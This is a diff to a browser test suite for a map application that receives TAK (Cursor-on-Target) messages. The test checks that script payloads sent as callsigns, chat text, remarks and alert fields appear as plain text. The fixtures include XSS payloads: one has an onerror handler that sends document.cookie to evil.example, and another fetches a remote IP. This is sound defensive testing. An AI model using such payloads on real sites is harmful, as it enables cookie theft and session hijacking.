@@ -171,6 +171,11 @@ def test_measure_and_cursor_by_keyboard(server: ServerProcess, webgl_page: Page)
 
 XSS = '<img src=x onerror="window.__xss=1;fetch(\'http://evil.example/\'+document.cookie)">'
 SCRIPT = "<script>window.__xss=2</script>"
+# A payload that, if it ran, would ask another origin for something (counted by the request watch).
+FAR_AWAY_TEXT = '<img src=x onerror="fetch(\'http://203.0.113.1/xss\')">'
+FAR_AWAY = FAR_AWAY_TEXT.replace("<", "&lt;").replace('"', "&quot;")
+# -120° is the first meridian of UTM zone 11 (the digits as pyproj's UTM zone 11 gives them).
+MGRS_39_1_120 = "11S KD 40566 32159"
 
 
 def test_script_payloads_from_a_tak_client_stay_text(server: ServerProcess, webgl_page: Page) -> None:
@@ -201,13 +206,24 @@ def test_script_payloads_from_a_tak_client_stay_text(server: ServerProcess, webg
     with socket.create_connection(("127.0.0.1", server.ports["cot"]), timeout=10) as tak:
         tak.sendall(sa("xss-1", XSS.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;"),
                        extra=f"<remarks>{escaped}{script}</remarks>", lat=39.1, lon=-120.0))
-        tak.sendall(chat("xss-1", escaped, to_uid=None, to_cs=None, text=escaped + script))
+        tak.sendall(chat("xss-1", escaped, to_uid=None, to_cs=None, text=escaped + script + FAR_AWAY))
         tak.sendall(cot("xss-item", "b-m-p-s-m", detail=f'<contact callsign="{script}"/><remarks>{escaped}</remarks>',
                         lat=39.2, lon=-120.1))
+        # An alert whose callsign and kind are payloads: the banner shows them as text.
+        tak.sendall(cot("xss-1-9-1-1", "b-a-o-tbl", how="h-e", lat=39.1, lon=-120.0,
+                        detail=f'<link uid="xss-1" type="a-f-G-U-C" relation="p-p"/><contact callsign="{escaped}"/>'
+                               f'<emergency type="{escaped}">{script}</emergency><remarks>{FAR_AWAY}</remarks>'))
         _wait_drawn(page, "xss-1")
         _wait_drawn(page, "xss-item")
         page.evaluate("() => rallypoint.select('xss-1')")
         expect(page.locator("#sel-callsign")).to_have_text(XSS)
+        expect(page.locator("#emergency-text")).to_have_text(f"{XSS}: {XSS} at 39.10000, -120.00000 ({MGRS_39_1_120})")
+        # The contacts and chat panels show the callsign and the chat text, as text.
+        page.click("#panel-contacts summary")
+        expect(page.locator("#panel-contacts .contact-callsign")).to_have_text([XSS])
+        page.click("#panel-chat summary")
+        expect(page.locator("#chat-history .chat-sender")).to_have_text([XSS])
+        expect(page.locator("#chat-history .chat-text")).to_have_text([XSS + SCRIPT + FAR_AWAY_TEXT])
         _shot(page, "xss")
     assert page.evaluate("() => window.__xss") is None
     assert page.evaluate("() => document.querySelectorAll('img[src=x], script:not([src])').length") == 0
